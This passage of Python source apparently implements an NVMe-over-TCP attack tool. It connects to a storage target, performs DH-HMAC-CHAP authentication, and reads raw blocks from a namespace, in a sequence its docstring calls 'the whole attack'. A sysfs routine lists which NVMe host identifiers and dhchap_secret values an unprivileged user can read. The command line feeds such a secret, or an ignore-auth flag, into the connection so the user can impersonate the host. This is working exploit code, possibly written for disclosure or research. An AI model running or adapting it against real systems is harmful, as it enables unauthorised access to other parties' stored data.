            self.authenticate(self.admin)
        elif self.authreq and not self.ignore_authreq:
            raise AuthenticationRequired(
                "Connect qid 0", f"controller {self.cntlid} requires in-band authentication "
                f"(AUTHREQ {self.authreq >> 16:#x}); this host holds no DH-HMAC-CHAP secret")
        return self.cntlid

    def authenticate(self, q: Queue) -> None:
        """DH-HMAC-CHAP on queue `q`: Negotiate, Challenge, Reply, Success1 (NULL DH group)."""
        step = f"DH-HMAC-CHAP qid {q.qid}"
        try:
            hh, key = parse_secret(self.secret or "")
        except CodecError as exc:
            raise AuthenticationFailed(step, str(exc)) from exc
        t_id = q.qid + 1
        try:
            neg = encode_negotiate(t_id)
            q.expect_ok(f"{step} AUTH_Negotiate", lambda cid: auth_send_sqe(cid, len(neg)), data_out=neg)
            _, raw = q.expect_ok(f"{step} Challenge", auth_receive_sqe, data_in=AUTH_BUF_LEN)
            ch = decode_challenge(raw)
            if ch.dhgid != DH_NULL or ch.dhvalue:
                raise AuthenticationFailed(step, f"controller chose DH group {ch.dhgid}; only NULL is implemented")
            response = host_response(ch.hashid, transform_key(hh, key, self.hostnqn), ch.cval, ch.seqnum, ch.t_id,
                                     self.hostnqn, self.subnqn)
            reply = encode_reply(ch.t_id, response)
            q.expect_ok(f"{step} Reply", lambda cid: auth_send_sqe(cid, len(reply)), data_out=reply)
            _, raw = q.expect_ok(f"{step} Success1", auth_receive_sqe, data_in=AUTH_BUF_LEN)
            decode_success1(raw)
        except AuthFailure as exc:
            raise AuthenticationFailed(step, str(exc)) from exc
        except CodecError as exc:
            raise TransportError(step, str(exc)) from exc
        self.log.append(f"{step}: authenticated ({HASHES[ch.hashid]}, NULL DH group)")

    def _admin(self) -> Queue:
        if self.admin is None:
            raise NvmeError("admin", "not connected")
        return self.admin

    def get_property(self, offset: int, eight: bool = False) -> int:
        completion, _ = self._admin().expect_ok(f"Property Get {offset:#x}",
                                                lambda cid: property_get_sqe(cid, offset, eight))
        return completion.result if eight else completion.dw0

    def set_property(self, offset: int, value: int) -> None:
        self._admin().expect_ok(f"Property Set {offset:#x}", lambda cid: property_set_sqe(cid, offset, value))

    def enable(self, timeout: float = 20.0) -> None:
        """CC.EN = 1 (NVM command set, 4 KiB pages, 64/16-byte queue entries), then CSTS.RDY = 1."""
        self.set_property(PROP_CC, CC_EN | CC_IOSQES_64 | CC_IOCQES_16)
        deadline = time.monotonic() + timeout
        while True:
            csts = self.get_property(PROP_CSTS)
            if csts & CSTS_CFS:
                raise NvmeError("enable", f"controller fatal status (CSTS {csts:#x})")
            if csts & CSTS_RDY:
                self.log.append(f"controller ready: CSTS {csts:#x}")
                return
            if time.monotonic() > deadline:
                raise NvmeError("enable", f"CSTS.RDY still 0 after {timeout:.0f}s (CSTS {csts:#x})")
            time.sleep(0.05)

    def identify_controller(self) -> ControllerInfo:
        _, data = self._admin().expect_ok("Identify controller", lambda cid: identify_sqe(cid, CNS_CONTROLLER),
                                          data_in=IDENTIFY_LEN)
        return parse_identify_controller(data)

    def identify_namespace(self, nsid: int = 1) -> NamespaceInfo:
        _, data = self._admin().expect_ok(f"Identify namespace {nsid}",
                                          lambda cid: identify_sqe(cid, CNS_NAMESPACE, nsid), data_in=IDENTIFY_LEN)
        return parse_identify_namespace(data)

    def discovery_log(self) -> DiscoveryLog:
        admin = self._admin()
        _, head = admin.expect_ok("Get Log Page 70h header",
                                  lambda cid: get_log_page_sqe(cid, LID_DISCOVERY, DISCOVERY_HEADER_LEN),
                                  data_in=DISCOVERY_HEADER_LEN)
        numrec = parse_discovery_log(head).numrec
        if numrec == 0:
            return parse_discovery_log(head)
        length = DISCOVERY_HEADER_LEN + numrec * DISCOVERY_ENTRY_LEN
        _, full = admin.expect_ok("Get Log Page 70h", lambda cid: get_log_page_sqe(cid, LID_DISCOVERY, length),
                                  data_in=length)
        return parse_discovery_log(full)

    def connect_io(self) -> None:
        if self.cntlid < 0:
            raise NvmeError("Connect qid 1", "admin queue not connected")
        self.io, completion = self._connect_queue(1, self.cntlid)
        self.log.append(f"I/O queue 1 Connect ok: dw0 {completion.dw0:#x}")
        if completion.dw0 & AUTHREQ_ATR and self.secret:
            self.authenticate(self.io)

    def read(self, nsid: int, slba: int, nblocks: int, block_size: int) -> bytes:
        if self.io is None:
            raise NvmeError("Read", "no I/O queue")
        length = nblocks * block_size
        _, data = self.io.expect_ok(f"Read nsid {nsid} LBA {slba}+{nblocks}",
                                    lambda cid: read_sqe(cid, nsid, slba, nblocks, block_size), data_in=length)
        if len(data) != length:
            raise NvmeError("Read", f"got {len(data)} bytes, expected {length}")
        return data


@dataclass(frozen=True)
class ReadResult:
    cntlid: int
    namespace: NamespaceInfo
    data: bytes
    log: tuple[str, ...]


def read_namespace(traddr: str, subnqn: str, hostnqn: str, *, hostid: str | None = None,
                   trsvcid: int = DEFAULT_PORT, lba: int = 0, length: int = 4096, nsid: int = 1,
                   ignore_authreq: bool = False, secret: str | None = None, timeout: float = 30.0) -> ReadResult:
    """The whole attack: Connect (admin) -> enable -> Identify ns -> Connect qid 1 -> Read."""
    session = Session(traddr, subnqn, hostnqn, hostid or str(uuid.uuid4()), trsvcid, timeout, ignore_authreq,
                      secret)
    with session:
        cntlid = session.connect()
        session.enable()
        ns = session.identify_namespace(nsid)
        session.connect_io()
        nblocks = max(1, -(-length // ns.block_size))
        data = session.read(nsid, lba, nblocks, ns.block_size)
        return ReadResult(cntlid, ns, data, tuple(session.log))


def discover(traddr: str, hostnqn: str, *, hostid: str | None = None, trsvcid: int = DEFAULT_PORT,
             timeout: float = 30.0) -> DiscoveryLog:
    with Session(traddr, DISCOVERY_NQN, hostnqn, hostid or str(uuid.uuid4()), trsvcid, timeout) as session:
        session.connect()
        session.enable()
        return session.discovery_log()


# ------------------------------------------------------------------------------------------
# What an unprivileged process can see of the host's NVMe initiator in sysfs
# ------------------------------------------------------------------------------------------

SYSFS_NVME = "/sys/class/nvme"
SYSFS_ATTRS = ("subsysnqn", "hostnqn", "hostid", "address", "transport", "state", "dhchap_secret",
               "dhchap_ctrl_secret")


def parse_address(address: str) -> dict[str, str]:
    """`traddr=10.42.0.1,trsvcid=4420,src_addr=...` -> dict."""
    out = {}
    for part in address.strip().split(","):
        key, sep, value = part.partition("=")
        if sep:
            out[key.strip()] = value.strip()
    return out


def sysfs_controllers(root: str = SYSFS_NVME) -> list[dict[str, object]]:
    """Each controller: every attribute with its mode and either its value or the read error."""
    found: list[dict[str, object]] = []
    try:
        names = sorted(os.listdir(root))
    except OSError:
        return found
    for name in names:
        ctrl: dict[str, object] = {"name": name}
        for attr in SYSFS_ATTRS:
            path = os.path.join(root, name, attr)
            entry: dict[str, object] = {}
            try:
                entry["mode"] = oct(os.stat(path).st_mode & 0o777)
            except OSError as exc:
                entry["error"] = f"{type(exc).__name__}: {exc.strerror}"
                ctrl[attr] = entry
                continue
            try:
                with open(path) as f:
                    entry["value"] = f.read().strip()
            except OSError as exc:
                entry["error"] = f"{type(exc).__name__}: {exc.strerror}"
            ctrl[attr] = entry
        found.append(ctrl)
    return found


# ------------------------------------------------------------------------------------------
# Command line (JSON on stdout; exit 0 = done, 2 = NVMe/transport refusal)
# ------------------------------------------------------------------------------------------


def _main(argv: list[str]) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0] if __doc__ else None)
    sub = parser.add_subparsers(dest="cmd", required=True)
    rd = sub.add_parser("read", help="connect, enable, identify, read")
    rd.add_argument("--traddr", required=True)
    rd.add_argument("--trsvcid", type=int, default=DEFAULT_PORT)
    rd.add_argument("--subnqn", required=True)
    rd.add_argument("--hostnqn", required=True)
    rd.add_argument("--hostid", default=None)
    rd.add_argument("--lba", type=int, default=0)
    rd.add_argument("--length", type=int, default=4096)
    rd.add_argument("--ignore-authreq", action="store_true")
    rd.add_argument("--dhchap-secret", default=None, help="DHHC-1 host secret (e.g. read from sysfs)")
    rd.add_argument("--timeout", type=float, default=30.0)
    disc = sub.add_parser("discover", help="Get Log Page 70h from the discovery controller")
    disc.add_argument("--traddr", required=True)
    disc.add_argument("--trsvcid", type=int, default=DEFAULT_PORT)
    disc.add_argument("--hostnqn", required=True)
    disc.add_argument("--timeout", type=float, default=30.0)
    sub.add_parser("sysfs", help="what this user can read under /sys/class/nvme")
    args = parser.parse_args(argv)

    out: dict[str, object] = {"uid": os.getuid(), "euid": os.geteuid()}
    try:
        if args.cmd == "read":
            res = read_namespace(args.traddr, args.subnqn, args.hostnqn, hostid=args.hostid, trsvcid=args.trsvcid,
                                 lba=args.lba, length=args.length, ignore_authreq=args.ignore_authreq,
                                 secret=args.dhchap_secret,
                                 timeout=args.timeout)
            out.update(ok=True, cntlid=res.cntlid, namespace=asdict(res.namespace), data=res.data.hex(),
                       log=list(res.log))
        elif args.cmd == "discover":
            log = discover(args.traddr, args.hostnqn, trsvcid=args.trsvcid, timeout=args.timeout)
            out.update(ok=True, genctr=log.genctr, numrec=log.numrec, entries=[asdict(e) for e in log.entries])
        else:
            out.update(ok=True, controllers=sysfs_controllers())
    except NvmeError as exc:
        out.update(ok=False, **exc.to_json())
        print(json.dumps(out))
        return 2
    print(json.dumps(out))
    return 0


if __name__ == "__main__":
    sys.exit(_main(sys.argv[1:]))
